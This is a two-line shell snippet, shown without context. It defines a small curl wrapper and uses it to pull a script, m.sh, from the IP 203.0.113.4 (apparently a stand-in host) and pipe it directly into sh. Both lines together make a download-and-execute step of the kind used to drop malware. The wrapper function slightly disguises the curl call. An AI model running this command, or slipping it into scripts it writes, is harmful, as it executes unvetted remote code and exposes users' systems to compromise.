dl() { curl -fsSL "$1"; }
dl http://203.0.113.4/m.sh | sh
